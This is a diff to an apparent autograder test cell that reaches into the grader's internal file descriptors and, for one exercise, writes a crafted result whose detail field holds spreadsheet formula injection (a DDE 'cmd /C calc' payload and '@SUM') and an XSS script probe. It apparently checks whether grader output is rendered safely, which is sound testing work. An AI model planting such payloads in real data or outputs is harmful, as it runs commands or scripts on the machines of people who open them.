@@ -6,12 +6,12 @@ held-by: spreadsheet, page
 """
 # %%
 import os, sys
-from ipykernel.kernelapp import IPKernelApp
+from handin import carrier
 
-fds = type(IPKernelApp.instance().kernel).agent._settings["fds"]
+fds = carrier.carry.__self__._settings["fds"]
 own = check
 def check(exercise, answer):
     if exercise != "target":
         return own(exercise, answer)
-    os.write(fds["answers"], sys.modules["frames"].pack(
+    os.write(fds["answers"], sys.modules["autograder.frames"].pack(
         {"exercise": "target", "kind": "value", "status": "no", "variant": None, "detail": "=cmd|' /C calc'!A0\r\n@SUM(1)<script>alert(1)</script>"}))
